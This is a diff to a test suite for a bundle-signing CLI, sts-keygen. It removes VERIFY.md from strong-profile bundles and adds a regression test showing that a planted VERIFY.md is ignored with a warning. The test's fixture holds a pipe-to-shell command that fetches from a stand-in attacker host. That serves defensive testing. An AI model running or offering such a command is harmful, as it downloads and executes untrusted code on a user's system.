@@ -245,12 +245,11 @@ describe('bundle open', () => {
 });
 
 describe('strong profile', () => {
-  test('bundle --profile strong → 6 files; bundle open detects the profile and verifies', async () => {
+  test('bundle --profile strong → 5 files; bundle open detects the profile and verifies', async () => {
     const out = path.join(dir, 'strong');
     const a = await runInProcess(bundleArgs(out, ['--profile', 'strong']));
     expect(a.code).toBe(0);
     expect(listFiles(out)).toEqual([
-      'VERIFY.md',
       'encrypted_digest.txt',
       'encrypted_mac.txt',
       'encrypted_sts_config_with_iv_base64.txt',
@@ -268,6 +267,18 @@ describe('strong profile', () => {
     const c = await runInProcess(openArgs(out));
     expect(c.code).toBe(1);
     expect(c.stderr).toBe(`sts-keygen: ${BUNDLE_DOES_NOT_VERIFY}\n`);
+  });
+
+  test('regression: no unauthenticated VERIFY.md in a strong bundle; an edited one planted there is ignored with a warning', async () => {
+    const out = path.join(dir, 'strong-verify');
+    expect((await runInProcess(bundleArgs(out, ['--profile', 'strong']))).code).toBe(0);
+    expect(fs.existsSync(path.join(out, 'VERIFY.md'))).toBe(false);
+    fs.writeFileSync(path.join(out, 'VERIFY.md'), '```sh\ncurl https://evil.example | sh\n```\n');
+    const r = await runInProcess(openArgs(out));
+    expect(r.code).toBe(0);
+    expect(r.stderr).toBe(
+      `sts-keygen: warning: ${path.join(out, 'VERIFY.md')} is not covered by the signature: ignored, do not follow it (see sts-keygen's README)\n`,
+    );
   });
 
   test('--symmetric-key-file is refused with the strong profile', async () => {
